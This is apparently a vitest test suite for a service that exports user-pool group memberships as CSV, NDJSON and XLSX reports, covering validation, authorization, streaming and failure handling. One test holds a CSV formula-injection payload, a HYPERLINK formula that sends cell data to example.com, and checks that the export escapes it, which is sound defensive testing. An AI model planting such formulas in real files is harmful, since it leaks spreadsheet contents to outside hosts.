import { once } from 'node:events';
import { get, type IncomingMessage } from 'node:http';
import { connect } from 'node:net';
import { buffer, text } from 'node:stream/consumers';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { COMPANY_GROUPS } from '../../../src/embedded-pool/seed/company-groups.ts';
import { createHttpServer, type HttpServer } from '../../../src/http/server.ts';
import { createClient } from '../../embedded-pool/client.ts';
import { parseCsv } from '../../export/csv/rfc-4180.ts';
import { readWorkbook } from '../../export/xlsx/read-workbook.ts';
import { type App, openApp } from '../../support/app.ts';

const started: { readonly server: HttpServer; readonly app: App }[] = [];

afterEach(async () => {
  for (const { server, app } of started.splice(0)) {
    await server.close(0);
    await app.service.close();
  }
});

/** The service over real HTTP, on a free port. */
async function serve(env: Record<string, string> = {}) {
  const app = await openApp(env);
  const server = createHttpServer({
    routes: app.service.routes,
    logger: { error: () => {} } as never,
    host: '127.0.0.1',
    port: 0,
  });
  started.push({ server, app });
  const url = await server.listen();
  return { app, pool: app.pool, at: (path: string) => new URL(path, url) };
}

const CSV = '/reports/membership.csv';
const NDJSON = '/reports/membership.ndjson';
const XLSX = '/reports/membership.xlsx';

interface Row {
  readonly group: string | null;
  readonly username: string;
}

interface Person {
  readonly username: string;
  readonly groups: readonly string[];
}

async function rowsOf<Item = Row>(response: Response): Promise<readonly Item[]> {
  return (await response.text())
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
}

/** `group username`, sorted. */
const pairs = (rows: readonly Row[]) => rows.map(({ group, username }) => `${group} ${username}`).sort();

const membershipsOf = ({ pool }: App, groups: readonly string[]) =>
  groups.flatMap((group) => pool.membersOf(group).map((username) => ({ group, username })));

const everyGroup = COMPANY_GROUPS.map(({ name }) => name);

describe('the sample company', () => {
  test('as NDJSON holds every membership once, and the user in no group', async () => {
    const { app, at } = await serve();
    const rows = await rowsOf(await fetch(at(NDJSON)));
    expect(pairs(rows)).toEqual(pairs([...membershipsOf(app, everyGroup), { group: null, username: 'new.hire' }]));
    expect(new Set(rows.map(({ username }) => username)).size).toBe(250);
  });

  test('as CSV holds the same, with the default columns', async () => {
    const { app, at } = await serve();
    const response = await fetch(at(CSV));
    // To take the text as UTF-8 drops the byte order mark.
    const [header, ...records] = parseCsv(await response.text());
    expect(header).toEqual(['group', 'precedence', 'username', 'email', 'name', 'enabled', 'status']);
    const rows = records.map(([group = '', , username = '']) => ({ group: group || null, username }));
    expect(pairs(rows)).toEqual(pairs([...membershipsOf(app, everyGroup), { group: null, username: 'new.hire' }]));
    expect(records).toContainEqual([
      'r&d/"moonshot",phase-2',
      '',
      'jean-luc.d’arc',
      'jean-luc.darc@example.com',
      'Jean-Luc d’Arc',
      'true',
      'CONFIRMED',
    ]);
  });

  test('costs each page of each list once', async () => {
    const { app, pool, at } = await serve();
    await (await fetch(at(CSV))).text();
    const pages = (items: number) => Math.max(1, Math.ceil(items / 60));
    expect(pool.calls.counts).toEqual({
      DescribeUserPool: 1,
      ListGroups: pages(everyGroup.length),
      ListUsersInGroup: everyGroup.reduce((sum, group) => sum + pages(app.pool.membersOf(group).length), 0),
      ListUsers: pages(250),
    });
  });
});

describe('people', () => {
  test('are a row each, by username, with all their groups, for the same calls', async () => {
    const { app, pool, at } = await serve();
    const people = await rowsOf<Person>(await fetch(at(`${NDJSON}?shape=people`)));
    const calls = { ...pool.calls.counts };
    expect(people.map(({ username }) => username)).toEqual(people.map(({ username }) => username).toSorted());
    expect(people).toHaveLength(250);
    const memberships = people.flatMap(({ username, groups }) => groups.map((group) => ({ username, group })));
    expect(pairs(memberships)).toEqual(pairs(membershipsOf(app, everyGroup)));
    expect(people.find(({ username }) => username === 'new.hire')?.groups).toEqual([]);
    await (await fetch(at(NDJSON))).text();
    const both = Object.entries(pool.calls.counts).map(([call, count]) => [call, count / 2]);
    // The pool is described once.
    expect({ ...Object.fromEntries(both), DescribeUserPool: 1 }).toEqual(calls);
  });

  test('have their groups in one cell of CSV, highest authority first', async () => {
    const { at } = await serve();
    const [header, ...records] = parseCsv(await (await fetch(at(`${CSV}?shape=people`))).text());
    expect(header).toEqual(['username', 'email', 'name', 'enabled', 'status', 'groups']);
    const groupsOf = (name: string) => records.find(([username]) => username === name)?.[5];
    expect(groupsOf('john.doe')?.split(';').length).toBeGreaterThan(1);
    expect(groupsOf('new.hire')).toBe('');
    expect(groupsOf('jean-luc.d’arc')).toContain('"r&d/""moonshot"",phase-2"');
  });

  test('of named groups are their members, with those groups', async () => {
    const { app, at } = await serve();
    const people = await rowsOf<Person>(
      await fetch(at(`${NDJSON}?shape=people&groups=onboarding,legal&columns=username,group,precedence`)),
    );
    const memberships = people.flatMap(({ username, groups }) => groups.map((group) => ({ username, group })));
    expect(pairs(memberships)).toEqual(pairs(membershipsOf(app, ['onboarding', 'legal'])));
    expect(Object.keys(people[0] ?? {})).toEqual(['username', 'groups', 'precedence']);
  });
});

test.each([
  [';', ';'],
  ['semicolon', ';'],
  ['tab', '\t'],
])('?delimiter=%s is that of the CSV', async (given, delimiter) => {
  const { at } = await serve();
  const text = await (await fetch(at(`${CSV}?delimiter=${given}&columns=group,username`))).text();
  expect(text.split('\r\n')[0]).toBe(`group${delimiter}username`);
  const refused = await fetch(at(`${NDJSON}?delimiter=${given}`));
  expect([refused.status, (await refused.json()).error]).toEqual([400, '"delimiter" is for csv, not for ndjson.']);
});

test('a workbook holds every membership once, its values typed', async () => {
  const { app, at } = await serve();
  const response = await open(at(XLSX));
  const { sheets } = readWorkbook(await buffer(response));
  const [header, ...rows] = sheets[0] ?? [];
  expect(header).toMatchObject({ A: 'group', B: 'precedence', C: 'username', F: 'enabled' });
  const found = rows.map(({ A, C }) => ({ group: A === undefined ? null : String(A), username: String(C) }));
  expect(pairs(found)).toEqual(pairs([...membershipsOf(app, everyGroup), { group: null, username: 'new.hire' }]));
  expect(rows.find(({ A }) => A === 'super_admin')).toMatchObject({ B: 1, F: true });
  expect(response.trailers).toEqual({ 'x-report-rows': String(rows.length) });
});

describe('what is requested', () => {
  test('columns are chosen and ordered', async () => {
    const { at } = await serve();
    const response = await fetch(
      at(`${CSV}?columns=username,attribute:custom:department,group&groups=onboarding,design`),
    );
    const records = parseCsv(await response.text());
    expect(records[0]).toEqual(['username', 'attribute:custom:department', 'group']);
    expect(records).toContainEqual(['小林.美咲', 'design', 'design']);
    expect(records).toContainEqual(['emp1', '', 'onboarding']);
  });

  test('of named groups, nobody but their members is reported on, and no list of users is read', async () => {
    const { app, pool, at } = await serve();
    const rows = await rowsOf(await fetch(at(`${NDJSON}?groups=onboarding,legal`)));
    expect(pairs(rows)).toEqual(pairs(membershipsOf(app, ['onboarding', 'legal'])));
    expect(pool.calls.counts.ListUsers).toBeUndefined();
  });

  test('a repeated parameter is not split at commas', async () => {
    const { app, at } = await serve();
    const query = new URLSearchParams([
      ['groups', 'r&d/"moonshot",phase-2'],
      ['groups', 'legal'],
    ]);
    const rows = await rowsOf(await fetch(at(`${NDJSON}?${query}`)));
    expect(pairs(rows)).toEqual(pairs(membershipsOf(app, ['legal', 'r&d/"moonshot",phase-2'])));
  });

  test('groups without a member are no rows', async () => {
    const { at } = await serve();
    expect(await (await fetch(at(`${NDJSON}?groups=archived-project`))).text()).toBe('');
    const header = await (await fetch(at(`${CSV}?groups=archived-project`))).text();
    expect(parseCsv(header)).toHaveLength(1);
  });

  test.each([
    ['columns=group,shoe_size', 'There is no column "shoe_size". There are: group, group_description, ', 'columns'],
    ['column=group', 'There is no parameter "column". There are: columns, groups, shape, delimiter, at.', 'column'],
    ['groups=', '"groups" is given, and names nothing.', 'groups'],
    ['shape=persons', '"shape" must be memberships or people, not "persons".', 'shape'],
    ['delimiter=|', '"delimiter" must be a comma, a semicolon, or the word tab, not "|".', 'delimiter'],
  ])('?%s is refused before any call', async (query, error, field) => {
    const { pool, at } = await serve();
    const response = await fetch(at(`${CSV}?${query}`));
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({
      error: expect.stringContaining(error),
      code: 'BAD_USER_INPUT',
      field,
    });
    expect(pool.calls.counts).toEqual({});
  });

  test('a group that the pool lacks is refused, with the groups that it has', async () => {
    const { at } = await serve({ EMBEDDED_POOL_USERS: '5', EMBEDDED_POOL_GROUPS: '2' });
    const response = await fetch(at(`${CSV}?groups=group-1,grop-2`));
    expect([response.status, await response.json()]).toEqual([
      400,
      {
        error: 'The pool has no group "grop-2".',
        code: 'BAD_USER_INPUT',
        reason: 'GROUP_NOT_FOUND',
        groups: ['group-1', 'group-2'],
        moreGroups: false,
      },
    ]);
  });

  test('of many groups, the first hundred are listed, and that there are more', async () => {
    const { at } = await serve({ EMBEDDED_POOL_USERS: '0', EMBEDDED_POOL_GROUPS: '300' });
    const { groups, moreGroups } = await (await fetch(at(`${CSV}?groups=nobody`))).json();
    expect([groups.length, moreGroups]).toEqual([100, true]);
  });
});

describe('an answer', () => {
  test.each([
    [CSV, 'text/csv; charset=utf-8; header=present', 'csv'],
    [NDJSON, 'application/x-ndjson; charset=utf-8', 'ndjson'],
    [XLSX, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
  ])('of %s is a file for this client alone', async (path, contentType, extension) => {
    const { at } = await serve();
    for (const method of ['GET', 'HEAD']) {
      const response = await fetch(at(path), { method, headers: { 'x-request-id': 'mine' } });
      await response.text();
      expect(Object.fromEntries(response.headers)).toMatchObject({
        'content-type': contentType,
        'content-disposition': expect.stringMatching(
          new RegExp(`^attachment; filename="membership-\\d{4}-\\d\\d-\\d\\d\\.${extension}"$`),
        ),
        'cache-control': 'no-store',
        'x-request-id': 'mine',
      });
    }
  });

  test('to HEAD costs no call', async () => {
    const { pool, at } = await serve();
    const response = await fetch(at(CSV), { method: 'HEAD' });
    expect([response.status, await response.text(), pool.calls.counts]).toEqual([200, '', {}]);
  });

  test('that is whole tells the number of its rows in the trailer', async () => {
    const { at } = await serve();
    const response = await open(at(`${NDJSON}?groups=onboarding`));
    await text(response);
    expect(response.trailers).toEqual({ 'x-report-rows': '3' });
  });

  test('is logged in one line', async () => {
    const { app, at } = await serve();
    await (await fetch(at(`${CSV}?groups=onboarding`), { headers: { 'x-request-id': 'mine' } })).text();
    await vi.waitFor(() => expect(app.log).toHaveLength(1));
    expect(JSON.parse(app.log[0] ?? '')).toMatchObject({
      requestId: 'mine',
      operation: 'membership.csv',
      status: 200,
      calls: 2,
      rows: 3,
      outcome: 'ok',
      msg: 'request',
    });
  });

  test('is refused to pages of other sites', async () => {
    const { pool, at } = await serve();
    const [response]: IncomingMessage[] = await once(
      get(at(CSV), { headers: { 'sec-fetch-site': 'cross-site' } }),
      'response',
    );
    expect(response?.statusCode).toBe(403);
    expect(pool.calls.counts).toEqual({});
  });

  test('needs a token if authentication is on', async () => {
    const { pool, at } = await serve({ AUTH: 'cognito' });
    const response = await fetch(at(CSV));
    expect([response.status, response.headers.get('www-authenticate')]).toEqual([401, 'Bearer']);
    expect(await response.json()).toMatchObject({ code: 'UNAUTHENTICATED' });
    expect(pool.calls.counts).toEqual({});
  });

  test('requires the permission REPORT_READ, which a caller in no group of the service lacks', async () => {
    const { pool, at } = await serve({ AUTH: 'cognito' });
    const fetchAs = (username: string, groupName: string) => {
      pool.addLogin({ username, password: 'Any-1-password', groupName });
      const { accessToken } = pool.signIn(username, 'Any-1-password');
      return fetch(at(`${CSV}?groups=admin`), { headers: { authorization: `Bearer ${accessToken}` } });
    };
    const refused = await fetchAs('john.doe', 'employee');
    expect(refused.status).toBe(403);
    expect(await refused.json()).toMatchObject({ code: 'FORBIDDEN', error: expect.stringContaining('REPORT_READ') });
    expect(pool.calls.counts).toEqual({});
    const answered = await fetchAs('rhea.report', 'auditors');
    expect([answered.status, await answered.text()]).toEqual([200, expect.stringContaining('maria.admin')]);
  });
});

test('what a user has chosen for a name is no formula in the CSV', async () => {
  const { pool, at } = await serve({ EMBEDDED_POOL_USERS: '0', EMBEDDED_POOL_GROUPS: '0' });
  await createClient({ requestHandler: pool.requestHandler }).adminCreateUser({
    UserPoolId: pool.userPoolId,
    Username: 'eve',
    UserAttributes: [{ Name: 'name', Value: '=HYPERLINK("http://example.com?"&A1,"Click")' }],
  });
  const records = parseCsv(await (await fetch(at(`${CSV}?columns=username,name`))).text());
  expect(records[1]).toEqual(['eve', '\'=HYPERLINK("http://example.com?"&A1,"Click")']);
});

describe('a failure', () => {
  test('before the first row is answered with its status', async () => {
    const { app, pool, at } = await serve();
    pool.faults.set([{ kind: 'access-denied', operation: 'ListGroups' }]);
    const response = await fetch(at(CSV));
    expect([response.status, await response.json()]).toMatchObject([
      502,
      { code: 'UPSTREAM_ACCESS_DENIED', action: 'cognito-idp:ListGroups' },
    ]);
    await vi.waitFor(() => expect(app.log.join()).toContain('"outcome":"errors","codes":["UPSTREAM_ACCESS_DENIED"]'));
  });

  const failOnSecondPages = { kind: 'access-denied', operation: 'ListUsersInGroup' } as const;
  // The first pages arrive before.
  const late = { kind: 'delay', operation: 'ListUsersInGroup', milliseconds: 300 } as const;
  const isSecondPage = ({ input }: { input: Readonly<Record<string, unknown>> }) => input.NextToken !== undefined;

  test('on the way leaves the transfer incomplete', async () => {
    const { app, pool, at } = await serve();
    pool.faults.set([
      { ...failOnSecondPages, when: isSecondPage },
      { ...late, when: isSecondPage },
    ]);
    const response = await open(at(NDJSON));
    expect(response.statusCode).toBe(200);
    await expect(text(response)).rejects.toThrow('aborted');
    expect([response.complete, response.trailers]).toEqual([false, {}]);
    await vi.waitFor(() => expect(app.log.join()).toContain('"outcome":"errors","codes":["UPSTREAM_ACCESS_DENIED"]'));
  });

  test('on the way resets the connection of a client of HTTP/1.0, for which its end would mean success', async () => {
    const { pool, at } = await serve();
    pool.faults.set([
      { ...failOnSecondPages, when: isSecondPage },
      { ...late, when: isSecondPage },
    ]);
    const socket = connect(Number(at('/').port), '127.0.0.1');
    socket.write(`GET ${NDJSON} HTTP/1.0\r\n\r\n`);
    await expect(text(socket)).rejects.toThrow('ECONNRESET');
  });
});

describe('a reader', () => {
  const LARGE = { EMBEDDED_POOL_USERS: '15000', EMBEDDED_POOL_GROUPS: '20' };
  const CALLS = 1 + 1 + 20 * 38 + 250;
  // Every row is so long that the buffers between the service and its reader hold only a part of the report.
  const wide = `${NDJSON}?columns=username,group,${Array.from({ length: 20 }, (_, place) => `attribute:${'x'.repeat(20)}${place}`).join()}`;

  const callsOf = ({ pool }: App) => Object.values(pool.calls.counts).reduce((sum, count) => sum + count, 0);

  /** Waits until no call has come for a while. */
  async function callsAtRest(app: App): Promise<number> {
    for (let [calls, still] = [-1, 0]; ; ) {
      still = calls === callsOf(app) ? still + 1 : 0;
      calls = callsOf(app);
      if (still === 20 && calls > 0) return calls;
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  }

  test('that pauses makes the calls pause, and loses nothing', async () => {
    const { app, at } = await serve(LARGE);
    const response = await open(at(wide));
    const calls = await callsAtRest(app);
    expect(calls).toBeLessThan(CALLS / 2);
    const lines = (await text(response)).trimEnd().split('\n');
    expect(new Set(lines).size).toBe(45_000);
    expect(callsOf(app)).toBeLessThanOrEqual(CALLS + 20);
  }, 60_000);

  test('that leaves ends the calls', async () => {
    const { app, at } = await serve({ ...LARGE, EMBEDDED_POOL_LATENCY_MS: '5' });
    const response = await open(at(NDJSON));
    await once(response, 'data');
    response.destroy();
    await vi.waitFor(() => expect(app.log.join()).toContain('"outcome":"cancelled"'), 5_000);
    expect(await callsAtRest(app)).toBeLessThan(CALLS / 2);
  }, 60_000);

  test('that a shutdown ends before its first row is not a success in the log', async () => {
    const { app, at } = await serve({ EMBEDDED_POOL_LATENCY_MS: '500' });
    const answer = fetch(at(CSV));
    await vi.waitFor(() => expect(app.pool.calls.counts.ListGroups).toBe(1));
    await started[0]?.server.close(0);
    expect((await answer).status).toBe(503);
    await vi.waitFor(() => expect(app.log.join()).toContain('"status":503'), 5_000);
    expect(app.log.map((line) => JSON.parse(line)).at(-1)).toMatchObject({ status: 503, outcome: 'cancelled' });
  });
});

/** A GET whose answer waits to be read. */
async function open(url: URL): Promise<IncomingMessage> {
  const [response]: IncomingMessage[] = await once(get(url), 'response');
  if (response === undefined) throw new Error('No answer.');
  return response;
}
